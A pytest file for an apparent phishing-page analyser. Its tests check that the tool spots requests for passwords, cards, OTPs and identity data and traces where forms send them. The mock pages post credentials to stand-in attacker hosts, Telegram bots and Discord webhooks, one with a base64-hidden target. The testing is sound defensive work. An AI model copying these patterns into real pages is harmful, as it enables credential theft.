"""What a page asks for, and where it sends it."""

from __future__ import annotations

import base64

import pytest
from tests.pages.captures import EVIL, HANAKO, capture, notes, page

from gyotaku.model import Recipient
from gyotaku.pages.capture import Request
from gyotaku.pages.forms import carries
from gyotaku.pages.read import read_page

FIELDS = [
    ('<input type="password" name="x">', "password"),
    ('<input name="user_pass">', "password"),
    ('<input name="x" style="-webkit-text-security: disc">', "password"),
    ('<label for="a">暗証番号</label><input id="a" type="password">', "password"),
    ('<input placeholder="Mot de passe">', "password"),
    ('<input placeholder="Contraseña">', "password"),
    ('<input placeholder="密码">', "password"),
    ('<textarea placeholder="12-word recovery phrase"></textarea>', "password"),
    ('<input type="email">', "mail"),
    ('<input name="mail_address">', "mail"),
    ("<table><tr><td>メールアドレス</td><td><input name=a></td></tr></table>", "mail"),
    ('<input name="userId">', "account"),
    ('<input autocomplete="username" name="a">', "account"),
    ("<label>会員番号 <input name=a></label>", "account"),
    ('<input name="cardNumber">', "card"),
    ("<dl><dt>クレジットカード番号</dt><dd><input name=a></dd></dl>", "card"),
    ('<input type="password" name="cvv">', "card"),
    ('<p>セキュリティコード</p><input name="x">', "card"),
    ('<input autocomplete="cc-exp" name="a">', "card"),
    ('<input placeholder="ワンタイムパスワード">', "code"),
    ('<input name="otp">', "code"),
    ('<input placeholder="SMS code">', "code"),
    ('<input placeholder="口座番号">', "bank"),
    ('<input name="iban">', "bank"),
    ("<span>支店名</span><input name=a>", "bank"),
    ('<input placeholder="マイナンバー">', "identity"),
    ('<label for="f">運転免許証の画像</label><input id="f" type="file">', "identity"),
    ('<input name="dob">', "identity"),
    ('<input type="tel" name="a">', "phone"),
    ('<input placeholder="携帯電話番号">', "phone"),
    ('<input name="postal_code">', "address"),
    ('<input placeholder="ご住所">', "address"),
    ("<select name=prefecture><option>東京都<option>京都府</select>", "address"),
]


@pytest.mark.parametrize(("field", "what"), FIELDS)
def test_field_is_known_by_its_words(field: str, what: str) -> None:
    """A field is told by its type, name, autocomplete or the words beside it, in several languages."""
    (form,) = page(f"<form method=post>{field}</form>").forms
    assert form.asks_for == (what,)


HONEST = [
    '<input type="search" name="q" placeholder="キーワード">',
    '<input name="captcha" placeholder="画像認証">',
    '<input type="checkbox" name="remember_user">',
    '<input type="hidden" name="card_number" value="1">',
    '<div style="display:none"><input name="subject"></div>',
    '<input type="file" name="attachment">',
    "<select name=quantity><option>1<option>2</select>",
]


@pytest.mark.parametrize("field", HONEST)
def test_honest_twin_asks_for_nothing(field: str) -> None:
    """Searches, captchas, ticks and hidden values are no questions about the visitor."""
    read = page(f"<form>{field}</form>")
    assert all(form.asks_for == () for form in read.forms)


@pytest.mark.parametrize(
    ("action", "how"),
    [
        ("check.php", "same-host login.evil.example"),
        ("", "same-host login.evil.example"),
        ("https://drop.evil.example/x", "same-domain drop.evil.example"),
        ("https://other.example.net/x", "other-domain other.example.net"),
        ("https://api.telegram.org/bot1:x/sendMessage", "messenger api.telegram.org"),
        ("https://discord.com/api/webhooks/1/x", "messenger discord.com"),
        ("https://formspree.io/f/abc", "form-service formspree.io"),
        ("https://docs.google.com/forms/d/e/x/formResponse", "form-service docs.google.com"),
        ("mailto:drop@example.net", "mail example.net"),
    ],
)
def test_where_a_form_posts(action: str, how: str) -> None:
    """The target's house and kind are told for each form that asks for something."""
    read = page(f'<form action="{action}" method=post><input type=password name=p></form>')
    assert notes(read, "posts") == [f"form 0: {how}"]


def test_target_is_resolved_as_the_browser_does() -> None:
    """``<base>``, formaction and relative paths lead where a browser would go."""
    read = page('<base href="https://drop.example.net/k/"><form action="p.php"><input type=password name=p></form>')
    assert read.forms[0].action == "https://drop.example.net/k/p.php"
    read = page(
        '<form action="a.php"><input type=password name=p><button formaction="//x.example/b">go</button></form>'
    )
    assert read.forms[0].action == "https://x.example/b"


def test_loose_inputs_are_a_form_sent_by_script() -> None:
    """Inputs of no form, gathered by script, are read as one form to the script's target."""
    read = page(
        '<div><input id=email><input id=pw type=password></div><script>fetch("/api/in",{method:"POST"})</script>'
    )
    (form,) = read.forms
    assert (form.method, form.action) == ("script", "https://login.evil.example/api/in")
    assert form.asks_for == ("mail", "password")


def test_target_hidden_in_base64_is_found() -> None:
    """A bot's address that the script carries encoded is found."""
    hidden = base64.b64encode(b"https://api.telegram.org/bot77:secret/sendMessage").decode()
    read = page(f"<input type=password><script>var u=atob('{hidden}');send(u)</script>")
    assert read.forms[0].action.startswith("https://api.telegram.org/bot77")


def test_request_seen_on_the_wire_wins() -> None:
    """Where the browser was seen to send fields to is the target, whatever the script says."""
    wire = (Request(EVIL), Request("https://drop.example.net/in", "POST", "fetch", 200, ("u", "p")))
    read = page("<input type=password><script>fetch('/decoy')</script>", requests=wire)
    assert read.forms[0].action == "https://drop.example.net/in"
    assert notes(read, "sent") == ["other-domain drop.example.net u p"]


@pytest.mark.parametrize(
    "value",
    ["hanako@example.jp", "HANAKO@EXAMPLE.JP", "hanako%40example.jp", base64.b64encode(b"hanako@example.jp").decode()],
)
def test_prefilled_address_is_noted_without_its_value(value: str) -> None:
    """A field that came filled with the visitor's address is named; the address stays out of the page's notes."""
    read = page(f'<form><input name="mail" value="{value}"><input type=password name=p></form>')
    assert notes(read, "prefilled") == ["form 0: mail"]
    assert "hanako" not in repr(read.forms) + repr(read.notes)


def test_honest_twin_prefilled_with_something_else() -> None:
    """A default value that is nobody's address is not noted."""
    assert notes(page('<form><input name="mail" value="you@example.org"></form>'), "prefilled") == []
    assert not carries("gmail.com", Recipient(("a@gmail.com",)))


def test_fields_of_a_form_attribute_belong_to_it() -> None:
    """An input outside its form is read with the form it names."""
    read = page('<form id=f action="/x"></form><input form=f name=p type=password>')
    assert [(form.action, form.asks_for) for form in read.forms] == [("https://login.evil.example/x", ("password",))]


def test_an_app_offered_is_asked_for() -> None:
    """A link to an installer, or one pushed at the visitor, is a demand to install."""
    assert page('<a href="/get/app.apk">更新</a>').forms[0].asks_for == ("app",)
    assert page("<p>x</p>", downloads=("profile.mobileconfig",)).forms[0].asks_for == ("app",)


def test_nobody_to_look_for() -> None:
    """Without a recipient nothing is called prefilled."""
    assert read_page(capture('<input name=a value="hanako@example.jp">')).forms == ()
    assert carries("hanako@example.jp", HANAKO)
